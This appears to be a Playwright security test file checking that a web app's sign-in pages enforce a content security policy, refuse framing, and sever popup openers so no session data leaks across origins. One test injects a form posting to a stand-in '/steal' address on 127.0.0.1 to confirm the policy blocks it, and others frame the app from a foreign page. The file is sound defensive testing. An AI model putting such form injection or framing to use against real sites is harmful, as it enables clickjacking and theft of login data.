import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { site } from '../../lib/site';
import { test as base, choose, expect, type Page, startSignIn } from '../e2e/fixtures';
import { title } from './matrix';
import { routes } from './stranger';

/** Another site: 127.0.0.1 where the app is localhost. */
const test = base.extend<{ foreign: { url: string; show(html: string): void } }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants an object pattern
  foreign: async ({}, use) => {
    let html = '';
    const server = createServer((request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(request.url === '/' ? html : '<p>a page that may be framed</p>');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await use({
      url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      show: (page) => {
        html = `<!doctype html><title>foreign</title>${page}`;
      },
    });
    server.closeAllConnections();
    server.close();
  },
});

const pages = routes.filter(({ kind }) => kind === 'page').map(({ path }) => path);

/** Notes every breach of a policy in any page of the browser. */
async function violationsIn(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.context().exposeFunction('reportViolation', (one: string) => violations.push(one));
  await page.context().addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { reportViolation } = window as unknown as { reportViolation(one: string): void };
      reportViolation(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  return violations;
}

test(title('HD-04'), async ({ page, entra, browser, app }) => {
  const violations = await violationsIn(page);
  for (const path of ['/', '/auth/sign-in', '/auth/error', '/auth/denied', '/auth/signed-out']) {
    await page.goto(path);
    const again = page.getByRole('button', { name: /Sign in with|Try again|Use another/ });
    await again.first().click();
    await expect(page).toHaveURL((url) => url.origin === entra.url);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
  // The whole way there and back, from the page of who is signed in too.
  await page.goto('/account?tab=details');
  await startSignIn(page);
  await choose(page, 'Ada Berg');
  await expect(page).toHaveURL('/account?tab=details');
  await page.getByRole('button', { name: 'Use another account' }).click();
  await choose(page, 'Ben Osei');
  await expect(page).toHaveURL(site.homePath);
  await page.goto('/account');
  await page.getByRole('button', { name: 'Sign out of Microsoft too' }).click();
  await expect(page).toHaveURL(
    (url) => url.origin === entra.url || /signed-out/.test(url.pathname),
  );
  expect(violations).toEqual([]);

  // The policy is in force: a form that was put into the page sends nothing to another address.
  const other = await browser.newPage({ baseURL: app.url });
  const broken = await violationsIn(other);
  await other.goto('/auth/sign-in');
  await other.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'http://127.0.0.1:9/steal';
    form.method = 'post';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => broken).toEqual([expect.stringContaining('form-action')]);
  expect(new URL(other.url()).pathname).toBe('/auth/sign-in');
  await other.close();
});

test(title('HD-05'), async ({ page, browser, app, foreign }) => {
  await page.goto('/account');
  await startSignIn(page);
  await choose(page, 'Ada Berg');
  await expect(page).toHaveURL('/account');
  const context = await browser.newContext({ storageState: await page.context().storageState() });
  const framer = await context.newPage();
  const paths = [...pages, '/no-such-page', '/api/me', '/icon.svg', '/healthz', '/auth/start'];
  for (const tag of ['iframe', 'embed', 'object']) {
    const source = tag === 'object' ? 'data' : 'src';
    foreign.show(
      [...paths.map((path) => app.url + path), `${foreign.url}/framed`]
        .map((url) => `<${tag} ${source}="${url}" width="400" height="300"></${tag}>`)
        .join(''),
    );
    await framer.goto(foreign.url, { waitUntil: 'networkidle' });
    const shown = await Promise.all(
      framer
        .frames()
        .slice(1)
        .map(async (frame) => ({ url: frame.url(), html: await frame.content().catch(() => '') })),
    );
    expect(shown.filter(({ html }) => html.includes('may be framed')).length, tag).toBe(1);
    expect(
      shown.filter(({ url, html }) => url.startsWith(app.url) || /Ada Berg|Sign in/.test(html)),
      tag,
    ).toEqual([]);
  }
  // Not even by a page of our own, and each of the two headers says so by itself.
  await framer.goto(app.url);
  const own = await framer.evaluate(
    (url) =>
      new Promise<string>((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = url;
        frame.onload = () => resolve(frame.contentDocument?.body.textContent ?? 'nothing to see');
        document.body.append(frame);
        setTimeout(() => resolve('nothing came'), 5_000);
      }),
    `${app.url}/account`,
  );
  expect(own).not.toContain('Ada Berg');
  for (const path of paths) {
    const { headers } = await fetch(app.url + path, { redirect: 'manual' });
    expect(headers.get('x-frame-options'), path).toBe('DENY');
    expect(headers.get('content-security-policy'), path).toContain("frame-ancestors 'none'");
  }
  await context.close();
});

test(title('HD-06'), async ({ page, context, app, entra, foreign }) => {
  const posted: string[] = [];
  const told: unknown[] = [];
  await context.exposeFunction('reportPost', (one: string) => posted.push(one));
  await context.exposeFunction('reportTold', (one: unknown) => told.push(one));
  await context.addInitScript(() => {
    const { reportPost, reportTold } = window as unknown as {
      reportPost(one: string): void;
      reportTold(one: unknown): void;
    };
    window.postMessage = ((message: unknown) =>
      reportPost(`${location.href} ${JSON.stringify(message)}`)) as typeof window.postMessage;
    window.BroadcastChannel = class extends BroadcastChannel {
      override postMessage(message: unknown) {
        reportTold(message);
      }
    };
  });
  const opener = `<script>
    window.heard = [];
    onmessage = (event) => heard.push(String(event.data));
    window.openApp = (path) => { window.popup = open('${app.url}' + path, 'popup', 'popup,width=500,height=600'); };
  </script>`;
  foreign.show(opener);
  for (const path of ['/', '/account', '/auth/sign-in', '/auth/denied', '/auth/error']) {
    await context.clearCookies();
    await page.goto(foreign.url);
    const opened = page.waitForEvent('popup');
    await page.evaluate(
      (to) => (window as unknown as { openApp(to: string): void }).openApp(to),
      path,
    );
    const popup = await opened;
    await popup.waitForLoadState();
    expect(await popup.evaluate(() => window.opener), path).toBeNull();
    const hold = () =>
      page.evaluate(() => {
        const { popup: held } = window as unknown as { popup: Window };
        let reach = 'nothing';
        try {
          reach = `${held.location.href} ${held.length}`;
        } catch {
          // Another site's window: its address cannot be read.
        }
        return { closed: held.closed, reach: reach === 'about:blank 0' ? 'nothing' : reach };
      });
    // To the opener our window is gone: it can neither count its frames nor lead it elsewhere.
    await expect.poll(hold, path).toEqual({ closed: true, reach: 'nothing' });
    await page.evaluate(() => {
      const { popup: held } = window as unknown as { popup: Window };
      held.location.href = 'about:blank#led-away';
      held.postMessage('to the popup', '*');
    });
    if (path !== '/account') {
      await popup.close();
      continue;
    }
    // The person signs in all the same, and the opener learns nothing of it.
    await startSignIn(popup);
    await choose(popup, 'Ada Berg');
    await expect(popup).toHaveURL(`${app.url}/account`);
    await expect(popup.getByRole('main')).toContainText('Ada Berg');
    await expect.poll(() => told.length).toBe(1);
    expect(await hold()).toEqual({ closed: true, reach: 'nothing' });
    await popup.close();
  }
  expect(await page.evaluate(() => (window as unknown as { heard: string[] }).heard)).toEqual([]);
  expect(posted.filter((one) => one.startsWith(app.url))).toEqual([]);
  // Browsers keep a channel to one origin; even there our tabs tell each other no secret.
  expect(told).toEqual([
    {
      person: expect.stringMatching(/^[\w+/]{16}$/),
      ends: { idleEndsAtMs: expect.any(Number), endsAtMs: expect.any(Number) },
    },
  ]);
  expect(entra.control.requests.length).toBeGreaterThan(0);

  // What a browser gets of us names no other window to post to, and one channel.
  const chunks = readdirSync('.next/static', { recursive: true, encoding: 'utf8' });
  const code = chunks
    .filter((file) => file.endsWith('.js'))
    .map((file) => readFileSync(join('.next/static', file), 'utf8'));
  expect(code.length).toBeGreaterThan(3);
  for (const text of code) {
    expect(
      text.match(
        /\b(opener|parent|top|window|self)\.postMessage|new BroadcastChannel(?!\("azure-auth"\))/g,
      ),
    ).toBeNull();
  }
});
